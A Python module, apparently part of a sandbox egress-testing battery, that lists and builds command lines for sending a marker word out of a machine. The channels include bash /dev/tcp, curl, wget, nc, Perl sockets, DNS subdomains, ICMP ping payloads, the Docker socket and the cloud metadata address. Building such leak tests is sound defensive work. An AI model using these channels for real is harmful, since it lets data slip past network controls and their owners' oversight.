"""Every way of the battery as a record: name, protocol, language, how, and the command line that tries it."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Final

import by_broker
import by_inherited
import by_itself
import by_kernel
import by_socket
import by_unix
import way

HERE: Final = Path(__file__).resolve().parent
PYTHON: Final = (sys.executable, "-ESs")
# Importing them enters their ways into the table.
MODULES: Final = (by_socket, by_unix, by_kernel, by_inherited, by_broker, by_itself)

# name, protocol, how, the program and its arguments; {word}, {hex}, {targets} and every target's name are filled in.
COMMANDS: Final = (
    ("bash-tcp", "TCP", "bash", "/dev/tcp", "bash -c 'echo {word} >/dev/tcp/{out4}/443'"),
    ("bash-udp", "UDP", "bash", "/dev/udp", "bash -c 'echo {word} >/dev/udp/{out4}/4100'"),
    ("curl", "HTTP", "curl", "GET", "curl -s -m 1 http://{out4}/{word}"),
    ("curl6", "HTTP/IPv6", "curl", "POST", "curl -s -m 1 -d {word} http://[{out6}]/"),
    ("curl-tls", "TLS", "curl", "server name", "curl -s -m 1 --connect-to ::{out4}:443 https://{word}.example.com/"),
    ("curl-name", "DNS", "curl", "look-up", "curl -s -m 2 http://{word}.example.com/"),
    ("curl-unix", "unix socket", "curl", "--unix-socket", "curl -s -m 1 --unix-socket {docker} http://localhost/{word}"),
    ("wget", "HTTP", "wget", "GET", "wget -q -T 1 -t 1 -O /dev/null http://{out4}/{word}"),
    ("perl-tcp", "TCP", "Perl", "IO::Socket::INET",
     "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"{out4}:443\")->send(\"{word}\")'"),
    ("perl-udp", "UDP", "Perl", "IO::Socket::INET",
     "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(PeerAddr=>\"{out4}:4100\",Proto=>\"udp\")->send(\"{word}\")'"),
    ("openssl", "TLS", "openssl", "s_client", "timeout 1 openssl s_client -connect {out4}:443 -servername {word}.example.com"),
    ("git", "git", "git", "ls-remote", "timeout 1 git ls-remote git://{out4}/{word}"),
    ("getent", "DNS", "getent", "look-up by the C library", "getent hosts {word}.example.com"),
    ("ping", "ICMP", "ping", "a helper with privileges", "ping -n -c 1 -W 1 -s 64 -p {hex} {out4}"),
    ("ssh", "TCP", "ssh", "a look-up and a connection", "ssh -o ConnectTimeout=1 -o BatchMode=yes {word}.example.com"),
    ("nc", "TCP", "nc", "connect, send", "sh -c 'echo {word} | timeout 1 nc {out4} 443'"),
    ("static-tcp", "TCP", "C, static", "system calls", "{static} tcp {word} {out4} 443"),
    ("static-udp", "UDP", "C, static", "system calls", "{static} udp {word} {out4} 4100"),
    ("static-thread", "TCP", "C, static", "a thread", "{static} thread {word} {out4} 443"),
    ("c-tcp", "TCP", "C", "system calls", "{dynamic} tcp {word} {out4} 443"),
    ("c-vfork", "UDP", "C", "vfork, exec of itself", "{dynamic} vfork {word} {out4} 4100"),
    ("c-resolve", "DNS", "C", "getaddrinfo", "{dynamic} resolve {word} {out4} 53"),
    ("c-metadata", "TCP", "C", "169.254.169.254", "{dynamic} tcp {word} {meta} 80"),
)  # fmt: skip
NODE: Final = (
    ("net", "TCP", "net"),
    ("net6", "TCP/IPv6", "net"),
    ("dgram", "UDP", "dgram"),
    ("fetch", "HTTP", "fetch"),
    ("lookup", "DNS", "dns.lookup (C library)"),
    ("resolve", "DNS", "dns.resolve4 (its own resolver)"),
    ("tls", "TLS", "tls: the word is the server name"),
    ("unix", "unix socket", "net to /run/docker.sock"),
    ("worker", "TCP", "from a worker thread"),
    ("child", "UDP", "from a child process"),
)


@dataclass(frozen=True, slots=True)
class Record:
    """One way. `missing` says why it cannot even be started on this machine; `network` whether it is judged."""

    name: str
    protocol: str
    language: str
    how: str
    command: str
    missing: str = ""
    network: bool = True

    @property
    def group(self) -> str:
        """Return how it is started: with the others, through the broker, or by itself."""
        if self.name in {"daemon", "daemon-kill", "server-every-address", "terminal"}:
            return "itself"
        return "broker" if self.name.startswith("broker-") else "batch"

    def argv(self, word: str, targets: dict[str, Any]) -> list[str]:
        """Return the command line that tries to deliver a word."""
        if self.command.startswith("by_"):
            file, name = self.command.split(":")
            return [*PYTHON, str(HERE / file), name, word, json.dumps(targets)]
        if self.command.startswith("node "):
            return ["node", str(HERE / "ways.js"), self.command.split()[1], word, json.dumps(targets)]
        flat = {key: value for key, value in targets.items() if isinstance(value, str)}
        return ["sh", "-c", "exec " + self.command.format_map(flat | {"word": word, "hex": word.encode().hex()})]


def build(folder: Path) -> tuple[dict[str, str], str]:
    """Compile the C ways; return where the programs are, and why they are missing if they are."""
    if not shutil.which("gcc"):
        return {}, "no gcc"
    built = {}
    for name, flags in (("static", ["-static", "-pthread"]), ("dynamic", ["-DNAMES", "-pthread"])):
        target = folder / f"ways-{name}"
        done = subprocess.run(["gcc", "-O1", "-o", target, HERE / "ways.c", *flags], capture_output=True, check=False)
        if done.returncode == 0:
            built[name] = str(target)
    return built, "" if len(built) == 2 else "gcc could not link it"


def records(built: dict[str, str], missing: str) -> Iterator[Record]:
    """Yield every way in the order of the table."""
    for name, one in way.WAYS.items():
        yield Record(name, one.protocol, "Python", one.how, f"{one.file}:{name}", network=one.network)
    for name, protocol, language, how, command in COMMANDS:
        compiled = next((kind for kind in ("static", "dynamic") if f"{{{kind}}}" in command), "")
        if compiled:
            reason = "" if compiled in built else missing
        else:
            program = name if name == "nc" else command.removeprefix("timeout 1 ").split()[0]
            reason = "" if shutil.which(program) else f"no {program}"
        yield Record(name, protocol, language, how, command, reason)
    for name, protocol, how in NODE:
        reason = "" if shutil.which("node") else "no node"
        yield Record(f"node-{name}", protocol, "Node", how, f"node {name}", reason)
